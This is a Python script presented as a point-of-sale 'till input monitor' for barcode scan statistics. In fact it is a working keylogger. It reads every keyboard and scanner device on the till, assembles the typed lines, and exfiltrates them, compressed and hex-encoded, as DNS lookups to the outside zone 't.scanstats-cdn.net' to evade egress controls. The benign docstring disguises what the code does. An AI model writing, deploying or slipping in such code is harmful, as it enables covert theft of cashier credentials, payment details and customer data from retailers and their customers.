#!/usr/bin/env python3
"""Till input monitor.

Listens to the keyboard-wedge barcode scanner and the till keyboard,
assembles what is typed into lines and forwards them for "scan quality
statistics".  Forwarding uses plain DNS lookups so it works from tills that
only have DNS egress.
"""
import argparse
import binascii
import logging
import queue
import socket
import sys
import threading
import time
import zlib

import evdev
from evdev import ecodes

COLLECTOR_ZONE = "t.scanstats-cdn.net"
LABEL_MAX = 60
DEVICE_HINTS = ("keyboard", "barcode", "scanner", "honeywell", "zebra", "datalogic")

log = logging.getLogger("till-monitor")

KEYMAP = {getattr(ecodes, f"KEY_{c}"): c.lower() for c in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"}
KEYMAP.update({getattr(ecodes, f"KEY_{d}"): d for d in "0123456789"})
KEYMAP.update({ecodes.KEY_SPACE: " ", ecodes.KEY_MINUS: "-", ecodes.KEY_DOT: ".",
               ecodes.KEY_SLASH: "/", ecodes.KEY_EQUAL: "=", ecodes.KEY_COMMA: ","})
SHIFTED = {"1": "!", "2": "@", "3": "#", "4": "$", "5": "%", "-": "_", "=": "+", "/": "?"}


def pick_devices():
    found = []
    for path in evdev.list_devices():
        dev = evdev.InputDevice(path)
        caps = dev.capabilities().get(ecodes.EV_KEY, [])
        if ecodes.KEY_A in caps or any(h in dev.name.lower() for h in DEVICE_HINTS):
            found.append(dev)
    return found


class LineAssembler:
    def __init__(self, out_q, source):
        self.out_q = out_q
        self.source = source
        self.buf = []
        self.shift = False

    def feed(self, ev):
        if ev.type != ecodes.EV_KEY:
            return
        if ev.code in (ecodes.KEY_LEFTSHIFT, ecodes.KEY_RIGHTSHIFT):
            self.shift = ev.value != 0
            return
        if ev.value != 1:
            return
        if ev.code in (ecodes.KEY_ENTER, ecodes.KEY_KPENTER, ecodes.KEY_TAB):
            if self.buf:
                self.out_q.put((self.source, time.time(), "".join(self.buf)))
                self.buf.clear()
        elif ev.code == ecodes.KEY_BACKSPACE and self.buf:
            self.buf.pop()
        elif ev.code in KEYMAP:
            ch = KEYMAP[ev.code]
            if self.shift:
                ch = SHIFTED.get(ch, ch.upper())
            self.buf.append(ch)


def reader(dev, out_q):
    asm = LineAssembler(out_q, dev.name[:20])
    try:
        for ev in dev.read_loop():
            asm.feed(ev)
    except OSError as exc:
        log.debug("device %s gone: %s", dev.path, exc)


class DnsForwarder(threading.Thread):
    def __init__(self, in_q, zone, host_tag):
        super().__init__(daemon=True)
        self.in_q = in_q
        self.zone = zone
        self.host_tag = host_tag
        self.seq = 0

    def _lookup(self, labels):
        name = ".".join(labels + [self.host_tag, self.zone])
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the query itself carries the data

    def send(self, text):
        blob = binascii.hexlify(zlib.compress(text.encode())).decode()
        chunks = [blob[i:i + LABEL_MAX] for i in range(0, len(blob), LABEL_MAX)]
        for idx, chunk in enumerate(chunks):
            self._lookup([chunk, f"{self.seq}-{idx}-{len(chunks)}"])
            time.sleep(0.05)
        self.seq += 1

    def run(self):
        batch, last = [], time.time()
        while True:
            try:
                src, ts, line = self.in_q.get(timeout=5)
                batch.append(f"{int(ts)}|{src}|{line}")
            except queue.Empty:
                pass
            if batch and (len(batch) >= 10 or time.time() - last > 30):
                self.send("\n".join(batch))
                batch, last = [], time.time()


def main(argv=None):
    ap = argparse.ArgumentParser(description="till input monitor")
    ap.add_argument("--zone", default=COLLECTOR_ZONE)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    devices = pick_devices()
    if not devices:
        log.error("no input devices readable (is this user in group 'input'?)")
        return 1
    lines = queue.Queue()
    fwd = DnsForwarder(lines, args.zone, socket.gethostname().split(".")[0][:20])
    fwd.start()
    threads = [threading.Thread(target=reader, args=(d, lines), daemon=True) for d in devices]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
